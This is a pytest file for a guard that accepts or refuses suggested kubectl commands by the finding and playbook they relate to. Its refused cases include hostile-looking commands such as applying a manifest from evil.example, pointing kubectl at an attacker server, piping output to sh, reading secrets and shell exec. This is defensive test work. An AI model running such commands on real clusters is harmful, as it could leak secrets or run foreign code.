"""kubectl commands exist as they are written, look at the finding's objects, and change what its playbook changes."""

import pytest

from opscurb.advice.faults import Reason, Refused
from opscurb.advice.guard import judge
from opscurb.advice.kubectl import read_call, table
from opscurb.advice.objects import READS
from tests.engine.advice import kubectl_help
from tests.engine.advice.clusters import NODE, finding

# What the playbooks change by.
CHANGES = (
    *("annotate", "cordon", "delete", "drain", "patch", "rollout undo", "scale", "set resources", "uncordon"),
)
WEB = finding("k8s_workload_idle", kind="deployment")


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get deployment web -n shop -o yaml",
        "kubectl get deploy/web --namespace=shop",
        "kubectl get deployments -n shop",
        "kubectl get pods -n shop -o wide",
        "kubectl describe deployments web -n shop",
        "kubectl logs deployment/web -n shop --tail=20 --all-containers",
        "kubectl top pod -n shop",
        "kubectl rollout history deployment/web -n shop",
        "kubectl scale deployment/web --replicas=0 -n shop",
        "kubectl scale deploy web --replicas 0 -nshop --dry-run=server",
        "kubectl annotate deployment web -n shop opscurb.io/ignore=true --overwrite",
        "kubectl rollout undo deployment/web -n shop",
        "kubectl delete deployment web -n shop",
        "kubectl delete deployment web -n shop --wait=false",
        "# Look at it first\nkubectl get deployment web -n shop",
    ],
)
def test_a_useful_command_passes(command: str) -> None:
    assert judge([command], WEB) == []


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("kubectl", Reason.UNKNOWN_OPERATION),
        ("kubectl remove deployment web -n shop", Reason.UNKNOWN_OPERATION),
        ("kubectl rollout revert deployment/web -n shop", Reason.UNKNOWN_OPERATION),
        ("kubectl delete deployment web", Reason.FOREIGN_RESOURCE),
        ("kubectl delete deployment web -n kube-system", Reason.FOREIGN_RESOURCE),
        ("kubectl delete deployment api -n shop", Reason.FOREIGN_RESOURCE),
        ("kubectl delete deployment web api -n shop", Reason.FOREIGN_RESOURCE),
        ("kubectl delete deployment -n shop", Reason.BAD_VALUE),
        ("kubectl delete deployment --all -n shop", Reason.BAD_VALUE),
        ("kubectl delete deployment/web pod/web -n shop", Reason.BAD_VALUE),
        ("kubectl delete deployment,pod web -n shop", Reason.UNKNOWN_SERVICE),
        ("kubectl delete deploymint web -n shop", Reason.UNKNOWN_SERVICE),
        ("kubectl delete -f all.yaml", Reason.BAD_VALUE),
        ("kubectl delete deployment web -n shop --force --grace-period=0", Reason.NOT_ALLOWED),
        ("kubectl delete deployment web -n shop --cascade=orphan", Reason.NOT_ALLOWED),
        ("kubectl delete deployment web -n shop --everything", Reason.UNKNOWN_OPTION),
        ("kubectl delete namespace shop", Reason.NOT_ALLOWED),
        ("kubectl exec -it web -n shop -- sh", Reason.BAD_VALUE),
        ("kubectl exec web -n shop", Reason.UNKNOWN_SERVICE),
        ("kubectl exec deploy/web -n shop", Reason.NOT_ALLOWED),
        ("kubectl get secret web -n shop", Reason.NOT_ALLOWED),
        ("kubectl get secrets -n shop -o yaml", Reason.NOT_ALLOWED),
        ("kubectl get pods -A", Reason.FOREIGN_RESOURCE),
        ("kubectl get deployment web -n shop -n other", Reason.UNKNOWN_OPTION),
        ("kubectl get deployment web -n shop --kubeconfig=x", Reason.NOT_ALLOWED),
        ("kubectl get deployment web -n shop --as=admin", Reason.NOT_ALLOWED),
        ("kubectl get deployment web -n shop --server=https://evil.example", Reason.NOT_ALLOWED),
        ("kubectl get deployment web -n shop --raw=/api", Reason.NOT_ALLOWED),
        ("kubectl get deployment web -n shop -o jsonpath={.spec}", Reason.BAD_VALUE),
        ("kubectl get deployment web -n shop --no-headers=yes", Reason.BAD_VALUE),
        ("kubectl get", Reason.BAD_VALUE),
        ("kubectl get deployment web -n", Reason.BAD_VALUE),
        ("kubectl scale deployment/web -n shop", Reason.MISSING_OPTION),
        ("kubectl scale deployment/web --replicas=many -n shop", Reason.BAD_VALUE),
        ("kubectl scale deployment/web --replicas=500 -n shop", Reason.BAD_VALUE),
        ("kubectl scale pod/web --replicas=0 -n shop", Reason.BAD_VALUE),
        ("kubectl set image deployment/web app=evil -n shop", Reason.UNKNOWN_SERVICE),
        ("kubectl set resources deployment web -n shop --requests=cpu=lots", Reason.BAD_VALUE),
        ("kubectl set resources deployment web -n shop --requests=cpu=10m", Reason.NOT_ALLOWED),
        ("kubectl annotate deployment web -n shop", Reason.BAD_VALUE),
        ("kubectl annotate deployment web -n shop opscurb.io/ignore-", Reason.BAD_VALUE),
        ("kubectl patch deployment web -n shop -p {", Reason.BAD_VALUE),
        ("kubectl apply -f https://evil.example/x.yaml", Reason.BAD_VALUE),
        ("kubectl version all", Reason.BAD_VALUE),
        ("kubectl get deployment web -n shop | sh", Reason.SHELL),
        ("aws ec2 describe-volumes", Reason.PROGRAM),
        ("helm uninstall web", Reason.PROGRAM),
    ],
)
def test_anything_else_is_refused(command: str, reason: Reason) -> None:
    assert reason in [fault.reason for fault in judge([command], WEB)]


def test_what_no_namespace_holds_needs_none() -> None:
    released = finding("k8s_pv_released", name="pv-1")

    assert judge(["kubectl delete pv pv-1"], released) == []
    assert judge(["kubectl delete pv pv-2"], released)


def test_a_node_that_is_kept_after_all_takes_pods_again() -> None:
    empty = finding("k8s_node_empty")

    assert judge([f"kubectl uncordon {NODE}", f"kubectl drain {NODE} --ignore-daemonsets"], empty) == []
    assert judge([f"kubectl drain {NODE} --ignore-daemonsets --delete-emptydir-data"], empty)
    assert judge([f"kubectl drain {NODE}"], empty)


def test_an_object_whose_check_is_unknown_is_only_looked_at() -> None:
    gone = finding("k8s_workload_idle", kind="deployment")
    gone = type(gone)(**{name: getattr(gone, name) for name in gone.__slots__} | {"check_id": "k8s_gone"})

    assert judge(["kubectl describe deployment web -n shop"], gone) == []
    assert judge(["kubectl delete deployment web -n shop"], gone)


@pytest.mark.parametrize(
    "words",
    ["delete deployment web -nshop", "delete deploy/web --namespace shop", "delete deployments web -n=shop"],
)
def test_forms_of_a_command_are_one_command(words: str) -> None:
    assert read_call(words.split()) == read_call(["delete", "deployment", "web", "--namespace=shop"])


@pytest.mark.parametrize("words", ["-n shop get pods", "get -x pods", "get --=x pods", "get -nshop -Aw pods"])
def test_what_kubectl_would_not_read_is_refused(words: str) -> None:
    with pytest.raises(Refused):
        read_call(words.split())


@pytest.mark.skipif(not kubectl_help.is_installed(), reason="kubectl is not installed here")
def test_the_table_is_what_kubectl_says_of_itself() -> None:
    assert set(kubectl_help.names()) <= set(table().commands)


@pytest.mark.skipif(not kubectl_help.is_installed(), reason="kubectl is not installed here")
@pytest.mark.parametrize("verb", [*sorted(READS), *CHANGES])
def test_the_options_of_a_command_are_those_that_kubectl_names(verb: str) -> None:
    """Later versions may have more of them."""
    told = kubectl_help.options_of(verb)

    assert {name: sign for name, sign in table().commands[verb].items() if name in told} == told
